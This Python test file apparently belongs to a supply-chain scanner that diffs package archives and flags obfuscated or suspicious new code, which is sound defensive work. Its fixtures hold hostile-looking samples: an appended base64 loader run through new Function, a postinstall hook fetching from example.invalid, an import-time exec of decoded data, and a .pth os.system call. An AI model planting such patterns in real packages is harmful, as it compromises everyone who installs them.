"""The comparison flags what is new and suspicious, and only that; the signal weighs it."""

from __future__ import annotations

import base64
import json
import os
import random
import subprocess
import sys

from custody.content import heuristics as h
from custody.content.archive import ArchiveContents, read_archive
from custody.content.compare import ContentComparison, compare_archives
from custody.model import Severity
from custody.signals.content import content_findings
from tests.content.conftest import tgz, zipped

INDEX = b"""'use strict';
const util = require('./util');

function debug(namespace) {
  return function log(...args) {
    if (!debug.enabled(namespace)) return;
    util.write(namespace, args);
  };
}

module.exports = debug;
"""

random.seed(7)
BLOB = base64.b64encode(bytes(random.randrange(256) for _ in range(3000)))
PAYLOAD = (
    b";(function(){var _a=Buffer.from('" + BLOB + b"','base64').toString();"
    b"var _b=new Function('r',_a);_b(require);})();"
)


def read(files: dict[str, bytes]) -> ArchiveContents:
    result = read_archive(tgz(files))
    assert isinstance(result, ArchiveContents)
    return result


def compare(old: dict[str, bytes], new: dict[str, bytes], eco: str = "npm") -> ContentComparison:
    return compare_archives(read(old), read(new), ecosystem=eco, kind="tarball")


def kinds(cmp: ContentComparison, path: str) -> set[str]:
    return {f.kind for f in cmp.flags if f.path == path}


def test_identical_releases_have_nothing() -> None:
    cmp = compare({"index.js": INDEX}, {"index.js": INDEX})
    assert cmp.flags == () and cmp.unchanged == 1 and not cmp.changed


def test_appended_minified_payload_is_critical_with_lines() -> None:
    cmp = compare({"index.js": INDEX}, {"index.js": INDEX + PAYLOAD + b"\n"})
    assert {"appended-code", "minified", "encoded-string", "dynamic-exec"} <= kinds(cmp, "index.js")
    (finding,) = content_findings(cmp)
    assert finding.rule == "content.obfuscated"
    assert finding.severity is Severity.CRITICAL
    assert finding.evidence["file"] == "index.js"
    assert finding.evidence["lines"] == [12, 12]
    assert "appended" in finding.message
    excerpts = [f["excerpt"] for f in finding.evidence["flags"]]
    assert all(len(e) <= 100 for e in excerpts)


def test_a_file_that_always_had_eval_is_not_news() -> None:
    old = INDEX + b"\nmodule.exports.run = (s) => eval(s);\n"
    new = old.replace(b"util.write", b"util.print") + b"\nmodule.exports.run2 = (s) => eval(s);\n"
    assert compare({"index.js": old}, {"index.js": new}).flags == ()


def test_new_eval_in_a_changed_file_is_low() -> None:
    new = INDEX.replace(b"util.write(namespace, args);", b"eval(args[0]);")
    cmp = compare({"index.js": INDEX}, {"index.js": new})
    assert kinds(cmp, "index.js") == {"dynamic-exec"}
    (finding,) = content_findings(cmp)
    assert finding.severity is Severity.LOW
    assert finding.evidence["lines"] == [7, 7]


def test_already_minified_bundle_is_not_news() -> None:
    bundle = b"!function(e){" + b"var a=1,b=2;" * 400 + b"}();\n"
    bundle2 = bundle.replace(b"b=2", b"b=3")
    cmp = compare(
        {"dist/x.min.js": bundle, "index.js": INDEX}, {"dist/x.min.js": bundle2, "index.js": INDEX}
    )
    assert cmp.flags == ()


def test_new_minified_file_in_a_package_that_ships_bundles_is_low() -> None:
    bundle = b"!function(e){" + b"var a=1,b=2;" * 400 + b"}();\n"
    cmp = compare(
        {"dist/a.min.js": bundle, "index.js": INDEX},
        {
            "dist/a.min.js": bundle,
            "dist/b.min.js": bundle.replace(b"a=1", b"c=1"),
            "index.js": INDEX,
        },
    )
    findings = content_findings(cmp)
    assert [f.severity for f in findings] == [Severity.LOW]


def test_base64_in_a_new_test_fixture_is_low() -> None:
    fixture = b"module.exports = '" + BLOB + b"';\n"
    cmp = compare({"index.js": INDEX}, {"index.js": INDEX, "test/fixtures/img.js": fixture})
    (finding,) = content_findings(cmp)
    assert finding.severity is Severity.LOW
    assert "encoded-string" in finding.evidence["kinds"]


def test_moved_files_are_not_analysed() -> None:
    cmp = compare({"lib/a.js": PAYLOAD}, {"src/a.js": PAYLOAD})
    assert cmp.moved == ("src/a.js",) and cmp.flags == ()


def test_install_hook_with_network_access() -> None:
    old = {
        "package.json": json.dumps({"name": "x", "version": "1.0.0"}).encode(),
        "index.js": INDEX,
    }
    new = {
        "package.json": json.dumps(
            {"name": "x", "version": "1.0.1", "scripts": {"postinstall": "node setup.js"}}
        ).encode(),
        "index.js": INDEX,
        "setup.js": b"require('https').get('https://example.invalid/x', r => r.pipe(out));\n",
    }
    cmp = compare(old, new)
    assert cmp.candidate_scripts == {"postinstall": "node setup.js"}
    assert "install-network" in kinds(cmp, "setup.js")
    top = content_findings(cmp)[0]
    assert top.evidence["file"] == "setup.js"
    assert top.severity.rank >= Severity.HIGH.rank


def test_binding_gyp_implies_an_install_script() -> None:
    cmp = compare({"index.js": INDEX}, {"index.js": INDEX, "binding.gyp": b"{}"})
    assert cmp.candidate_scripts == {"install": "node-gyp rebuild"}


def test_python_import_time_exec_of_decoded_data() -> None:
    old = {"pkg/__init__.py": b'__version__ = "1.0"\n'}
    new = {
        "pkg/__init__.py": b'import base64\n__version__ = "1.1"\nexec(base64.b64decode("'
        + BLOB
        + b'"))\n'
    }
    cmp = compare_archives(_wheel(old), _wheel(new), ecosystem="pypi", kind="wheel")
    assert {"decode-exec", "dynamic-exec", "encoded-string"} <= kinds(cmp, "pkg/__init__.py")
    (finding,) = content_findings(cmp)
    assert finding.severity is Severity.CRITICAL
    decode = next(f for f in cmp.flags if f.kind == "decode-exec")
    assert decode.lines == (3, 3)
    assert "b64decode" in decode.excerpt


def test_pth_with_import_line() -> None:
    cmp = compare_archives(
        _wheel({"pkg/__init__.py": b""}),
        _wheel({"pkg/__init__.py": b"", "zz_init.pth": b"import os; os.system('id')\n"}),
        ecosystem="pypi",
        kind="wheel",
    )
    (finding,) = content_findings(cmp)
    assert "pth-exec" in finding.evidence["kinds"]
    assert finding.severity.rank >= Severity.HIGH.rank


def test_sdist_build_changes() -> None:
    build = b'[build-system]\nrequires = ["setuptools"]\n'
    old = {
        "setup.py": b"from setuptools import setup\nsetup()\n",
        "pyproject.toml": build + b'build-backend = "setuptools.build_meta"\n',
    }
    new = {
        "setup.py": b"from setuptools import setup\nimport subprocess\n"
        b"subprocess.run(['sh','-c','id'])\nsetup()\n",
        "pyproject.toml": build + b'build-backend = "backend"\nbackend-path = ["_build"]\n',
    }
    cmp = compare_archives(read(old), read(new), ecosystem="pypi", kind="sdist")
    files = {c.file: c for c in cmp.build_changes}
    assert files["setup.py"].kinds == ("child-process",)
    assert "backend-path" in files["pyproject.toml [build-system]"].summary


def _wheel(files: dict[str, bytes]) -> ArchiveContents:
    result = read_archive(zipped(files), strip_root=False)
    assert isinstance(result, ArchiveContents)
    return result


def test_language_and_test_paths() -> None:
    assert h.language("lib/index.js", b"") == "js"
    assert h.language("types/index.d.ts", b"") is None
    assert h.language("dist/index.js.map", b"") is None
    assert h.language("bin/cli", b"#!/usr/bin/env node\n") == "js"
    assert h.language("x.pth", b"") == "pth"
    assert h.is_test_path("test/fixtures/a.js") and h.is_test_path("src/a.test.ts")
    assert not h.is_test_path("lib/testing-library.js")


def test_stats_tell_minified_from_readable() -> None:
    assert not h.stats(INDEX * 20).minified
    assert h.stats(PAYLOAD).minified
    assert h.stats(BLOB).entropy > 5.8
    assert h.stats(INDEX).entropy < 5.2


def test_scan_guards_identifiers() -> None:
    hits = {x.label for x in h.scan(b"x.eval(1); evaluate(2); myeval(3)", "js")}
    assert "eval(" not in hits
    assert "computed require(" not in {x.label for x in h.scan(b"require('fs')", "js")}
    assert "computed require(" in {x.label for x in h.scan(b"require(name)", "js")}
    obf = b";".join(b"var _0x%04x=_0x%04x[%d]" % (i, i + 1, i) for i in range(20))
    assert any(x.kind == "obfuscator" for x in h.scan(obf, "js"))


def test_excerpt_is_short_and_escaped() -> None:
    text = h.excerpt(b"a\x1b[31m\x00" + b"x" * 500, 0, 5)
    assert len(text) <= 100 and "\\x1b" in text and "\x00" not in text


def test_kinds_of_equal_weight_come_in_one_order_whatever_the_hash_seed() -> None:
    """A finding's text must not change from run to run (reports are diffed and committed):
    kinds of the same severity are listed alphabetically, not in set order."""
    code = (
        "from custody.content.result import ContentComparison, ContentFlag\n"
        "from custody.signals.content import content_findings\n"
        "flags = tuple(ContentFlag('a.js', k, k, (1, 1), '') for k in\n"
        "    ('minified', 'high-entropy', 'marshal', 'child-process', 'dynamic-exec'))\n"
        "cmp = ContentComparison('npm', 'tarball', 'a-1.tgz', 'a-2.tgz', flags=flags)\n"
        "print(content_findings(cmp)[0].message)\n"
    )
    seen = {
        subprocess.run(
            [sys.executable, "-c", code],
            env={**os.environ, "PYTHONHASHSEED": str(seed)},
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        for seed in range(6)
    }
    assert len(seen) == 1
    assert "high-entropy code; marshal.loads" in seen.pop()
